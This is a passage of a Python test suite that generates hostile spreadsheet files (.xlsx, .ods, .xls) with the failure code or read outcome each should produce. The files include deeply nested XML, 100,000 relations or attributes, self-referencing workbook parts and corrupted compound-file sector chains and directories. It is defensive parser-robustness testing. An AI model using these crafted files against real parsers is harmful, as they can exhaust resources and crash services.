    for part in (SHEET_1, STRINGS, WORKBOOK, RELATIONS, ROOT):
        yield of(f"without {Path(part).name}.xlsx", without(".xlsx", part))
    for part in (CONTENT, MANIFEST):
        yield of(f"without {Path(part).name}.ods", without(".ods", part))
    yield of("without styles.xlsx", without(".xlsx", STYLES), Read())
    yield of(
        "a sheet called twice.xlsx", xlsx(workbook=before(b"</sheets>", b'<sheet name="2" sheetId="2" r:id="rId1"/>'))
    )
    yield of(
        "a sheet that is the workbook.xlsx", xlsx(relations=replacing(b"worksheets/sheet1.xml", b"workbook.xml")), "F03"
    )
    yield of("a workbook that is its relations.xlsx", xlsx(root=replacing(b"xl/workbook.xml", b"_rels/.rels")))
    yield of(
        "a sheet that is nowhere.xlsx",
        xlsx(workbook=before(b"</sheets>", b'<sheet name="2" sheetId="2" r:id="rId99"/>')),
    )
    yield of("no sheet at all.xlsx", xlsx(workbook=lambda xml: re.sub(rb"<sheet .*?/>", b"", xml)), "F03")
    relation = b'<Relationship Id="x%d" Type="t/worksheet" Target="worksheets/sheet1.xml"/>'
    many = b"".join(relation % number for number in range(100_000))
    yield of("100,000 relations.xlsx", xlsx(relations=before(b"</Relationships>", many)), "F02")
    yield of(
        "a name of 10 MB.xlsx",
        xlsx(workbook=replacing(b'name="Case scores"', b'name="' + b"x" * 10 * MEBIBYTE + b'"')),
        Read(),
    )
    yield of("a part twice.xlsx", packed_as(".xlsx", {SHEET_1.upper(): packed((unpacked(".xlsx")[SHEET_1], 1))}))


def deep_nesting() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read) -> HostileFile:
        return HostileFile("deep nesting", name, make, outcome)

    deep = b"<x>" * 100_000 + b"</x>" * 100_000
    yield of("in the sheet.xlsx", xlsx(sheet=more_rows(deep)), Read())
    yield of("in the strings.xlsx", xlsx(strings=before(b"</sst>", deep)), Read())
    yield of("in the styles.xlsx", xlsx(styles=before(b"</styleSheet>", deep)), Read())
    yield of("in the workbook.xlsx", xlsx(workbook=before(b"</workbook>", deep)), "F02")
    yield of("in the relations.xlsx", xlsx(relations=before(b"</Relationships>", deep)), "F02")
    yield of("in the content.ods", ods(before(b"</table:table>", deep)), "F02")
    spans = b"<text:span>" * 100_000 + b"</text:span>" * 100_000
    yield of("in a cell.ods", ods(replacing(b"<text:p>", b"<text:p>" + spans)), "F02")
    tables = b"<table:table><table:table-row><table:table-cell>" * 9_000
    yield of("tables in tables.ods", ods(replacing(b"<text:p>", tables + b"<text:p>")), "F02")
    attributes = b" ".join(b'a%d=""' % number for number in range(100_000))
    yield of("100,000 attributes.xlsx", xlsx(sheet=more_rows(b"<row " + attributes + b"/>")), Read())
    yield of(
        "100,000 attributes.ods", ods(before(b"</table:table>", b"<table:table-row " + attributes + b"/>")), Read()
    )


def corrupt_xls() -> Iterator[HostileFile]:
    def of(name: str, edit: Edit, outcome: str | Read = "F01") -> HostileFile:
        return HostileFile("corrupt .xls", f"{name}.xls", lambda path: path.write_bytes(edit(good(".xls"))), outcome)

    content = good(".xls")
    table = 512 + 512 * struct.unpack_from("<I", content, 76)[0]  # the first sector of the allocation table
    directory = 512 + 512 * struct.unpack_from("<I", content, 48)[0]

    def patched(place: int, new: bytes) -> Edit:
        return lambda xls: xls[:place] + new + xls[place + len(new) :]

    yield of("a chain that bites its tail", patched(table, struct.pack("<4I", 1, 2, 0, 0)))
    yield of("chains that lead nowhere", patched(table, struct.pack("<4I", *[2**31] * 4)))
    yield of("sectors of 2^255 bytes", patched(30, b"\xff\xff"), Read())
    yield of("4 billion sectors", patched(44, b"\xff\xff\xff\xff"), Read())
    yield of("a directory nowhere", patched(48, struct.pack("<I", 2**30)))
    yield of("a directory that is its own child", patched(directory + 68, bytes(12)))
    yield of("a directory of noise", patched(directory, random.Random(3).randbytes(512)))
    yield of("more strings than there are", strings_of_xls(2**31 - 1))
    yield of("fewer strings than are used", strings_of_xls(1))
    yield of("a sheet somewhere else", record(b"\x85\0", 0, b"\xff\xff\xff\x7f"))


def record(kind: bytes, place: int, new: bytes) -> Edit:
    """The first record of a kind with other bytes at a place in it."""

    def edit(xls: bytes) -> bytes:
        start = xls.index(kind, 512) + 4 + place
        return xls[:start] + new + xls[start + len(new) :]

    return edit


def strings_of_xls(how_many: int) -> Edit:
    """The table of shared strings says to hold so many."""
    return record(b"\xfc\0", 4, struct.pack("<I", how_many))


HOSTILE_FILES = [
    *over_a_limit(),
    *protected(),
    *truncated(),
    *renamed(),
    *with_macros(),
    *xml_bombs(),
    *zip_bombs(),
    *impossible_dimensions(),
    *empty_rows(),
    *odd_names(),
    *no_files(),
    *no_content(),
    *wrong_values(),
    *malformed_text(),
    *crooked_packages(),
    *deep_nesting(),
    *corrupt_xls(),
]
